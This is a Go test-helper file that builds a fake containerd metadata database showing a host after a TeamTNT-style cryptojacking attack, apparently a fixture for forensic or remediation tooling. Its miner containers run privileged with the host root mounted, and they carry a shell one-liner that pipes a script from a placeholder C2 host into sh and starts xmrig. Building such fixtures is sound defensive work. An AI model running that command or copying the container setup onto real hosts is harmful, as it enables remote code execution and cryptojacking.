package hosttest

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"

	bolt "go.etcd.io/bbolt"
	"google.golang.org/protobuf/encoding/protowire"
)

// ContainerdMetaDB is where containerd's metadata plugin keeps its bolt
// database.
const ContainerdMetaDB = "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db"

// CtrdContainer is one container of a containerd meta.db, in the shape
// containerd's metadata package stores it: v1/<Namespace>/containers/<ID>
// with image, runtime/name, spec (a protobuf Any holding the OCI spec as
// JSON), labels and the creation and update times.
type CtrdContainer struct {
	Namespace, ID string
	Image         string
	Args          []string
	Labels        map[string]string
	HostRoot      bool   // a bind mount of / at /host
	Privileged    bool   // CAP_SYS_ADMIN in the bounding set
	Spec          []byte // raw spec bytes instead of the Any built from Args (bad input)
}

const ociSpecType = "types.containerd.io/opencontainers/runtime-spec/1/Spec"

// ContainerdSpecAny marshals an OCI spec JSON into a protobuf Any as
// containerd's typeurl does.
func ContainerdSpecAny(specJSON []byte) []byte {
	b := protowire.AppendTag(nil, 1, protowire.BytesType)
	b = protowire.AppendString(b, ociSpecType)
	b = protowire.AppendTag(b, 2, protowire.BytesType)
	return protowire.AppendBytes(b, specJSON)
}

func ociSpec(c CtrdContainer) []byte {
	caps := []string{"CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW", "CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE"}
	if c.Privileged {
		caps = append(caps, "CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_PTRACE")
	}
	mounts := []map[string]any{
		{"destination": "/proc", "type": "proc", "source": "proc", "options": []string{"nosuid", "noexec", "nodev"}},
		{"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": []string{"nosuid", "strictatime", "mode=755", "size=65536k"}},
	}
	if c.HostRoot {
		mounts = append(mounts, map[string]any{"destination": "/host", "type": "bind", "source": "/", "options": []string{"rbind", "rw"}})
	}
	spec := map[string]any{
		"ociVersion": "1.1.0",
		"process": map[string]any{
			"user": map[string]any{"uid": 0, "gid": 0}, "args": c.Args,
			"env":          []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"},
			"cwd":          "/",
			"capabilities": map[string]any{"bounding": caps, "effective": caps, "permitted": caps},
		},
		"root":     map[string]any{"path": "rootfs"},
		"hostname": c.ID[:12],
		"mounts":   mounts,
		"linux":    map[string]any{"namespaces": []map[string]string{{"type": "pid"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}, {"type": "network"}}},
	}
	b, err := json.Marshal(spec)
	if err != nil {
		panic(err)
	}
	return b
}

// ContainerdDB builds a real bbolt meta.db holding cs and returns its
// bytes.
func ContainerdDB(cs []CtrdContainer) (string, error) {
	dir, err := os.MkdirTemp("", "hosttest-meta-*")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(dir)
	name := filepath.Join(dir, "meta.db")
	db, err := bolt.Open(name, 0o600, &bolt.Options{Timeout: time.Second})
	if err != nil {
		return "", err
	}
	at, _ := InfectionTime.MarshalBinary()
	err = db.Update(func(tx *bolt.Tx) error {
		v1, err := tx.CreateBucketIfNotExists([]byte("v1"))
		if err != nil {
			return err
		}
		if err := v1.Put([]byte("version"), protowire.AppendVarint(nil, 3)); err != nil {
			return err
		}
		for _, c := range cs {
			ns, err := v1.CreateBucketIfNotExists([]byte(c.Namespace))
			if err != nil {
				return err
			}
			cb, err := ns.CreateBucketIfNotExists([]byte("containers"))
			if err != nil {
				return err
			}
			b, err := cb.CreateBucket([]byte(c.ID))
			if err != nil {
				return fmt.Errorf("container %s/%s: %w", c.Namespace, c.ID, err)
			}
			spec := c.Spec
			if spec == nil {
				spec = ContainerdSpecAny(ociSpec(c))
			}
			for k, v := range map[string][]byte{"image": []byte(c.Image), "spec": spec, "snapshotter": []byte("overlayfs"), "snapshotKey": []byte(c.ID), "createdat": at, "updatedat": at} {
				if err := b.Put([]byte(k), v); err != nil {
					return err
				}
			}
			rb, err := b.CreateBucket([]byte("runtime"))
			if err != nil {
				return err
			}
			if err := rb.Put([]byte("name"), []byte("io.containerd.runc.v2")); err != nil {
				return err
			}
			lb, err := b.CreateBucket([]byte("labels"))
			if err != nil {
				return err
			}
			for k, v := range c.Labels {
				if err := lb.Put([]byte(k), []byte(v)); err != nil {
					return err
				}
			}
		}
		return nil
	})
	if cerr := db.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return "", err
	}
	data, err := os.ReadFile(name)
	return string(data), err
}

// Ids of the containers Containerd plants.
const (
	CtrdMinerID   = "9c4e1f2a7b3d5e60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8"
	CtrdWebID     = "3a7d9e1f2b4c6d8e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70"
	CtrdPauseID   = "b1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f901"
	CtrdStoppedID = "e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6"
)

// ContainerdContainers is a containerd host after a TeamTNT-style attack
// through an exposed nerdctl/containerd socket: a miner run with
// nerdctl run -d --restart=always --privileged -v /:/host (status
// running), a healthy nginx with --restart=unless-stopped, a CRI pause
// sandbox in k8s.io without restart labels, and a second miner the
// operator already stopped (status stopped).
func ContainerdContainers() []CtrdContainer {
	nerd := func(name, policy, status string) map[string]string {
		return map[string]string{
			labelPolicy: policy, labelStatus: status,
			"containerd.io/restart.loguri": "binary:///usr/local/bin/nerdctl?_NERDCTL_INTERNAL_LOGGING=%2Fvar%2Flib%2Fnerdctl%2F1935db59",
			"nerdctl/name":                 name, "nerdctl/namespace": "default", "nerdctl/platform": "linux/amd64",
			"nerdctl/hostname": name,
		}
	}
	script := "apk add --no-cache curl; curl -sL http://" + c2 + "/xm.sh | sh; /tmp/xmrig -o stratum+tcp://" + c2 + ":3333 --donate-level 1"
	return []CtrdContainer{
		{Namespace: "default", ID: CtrdMinerID, Image: "docker.io/alpineos/dockerapi:latest", Args: []string{"/bin/sh", "-c", script},
			Labels: nerd("kube-proxyd", "always", "running"), HostRoot: true, Privileged: true},
		{Namespace: "default", ID: CtrdWebID, Image: "docker.io/library/nginx:1.27", Args: []string{"/docker-entrypoint.sh", "nginx", "-g", "daemon off;"},
			Labels: nerd("web", "unless-stopped", "running")},
		{Namespace: "default", ID: CtrdStoppedID, Image: "docker.io/alpineos/dockerapi:latest", Args: []string{"/bin/sh", "-c", script},
			Labels: nerd("old", "always", "stopped")},
		{Namespace: "k8s.io", ID: CtrdPauseID, Image: "registry.k8s.io/pause:3.9", Args: []string{"/pause"},
			Labels: map[string]string{"io.cri-containerd.kind": "sandbox", "io.kubernetes.pod.name": "coredns-5d78c9869d-x2k8p", "io.kubernetes.pod.namespace": "kube-system"}},
	}
}

const (
	labelStatus = "containerd.io/restart.status"
	labelPolicy = "containerd.io/restart.policy"
)

// Containerd plants a meta.db holding cs on base.
func Containerd(base Tree, cs []CtrdContainer) Tree {
	data, err := ContainerdDB(cs)
	if err != nil {
		panic(fmt.Sprintf("hosttest: containerd meta.db: %v", err))
	}
	return base.With(
		Entry{Path: "/var/lib/containerd", Dir: true, Mode: 0o711, Mtime: InfectionTime},
		Entry{Path: ContainerdMetaDB, Data: data, Mode: 0o644, Mtime: InfectionTime},
	)
}
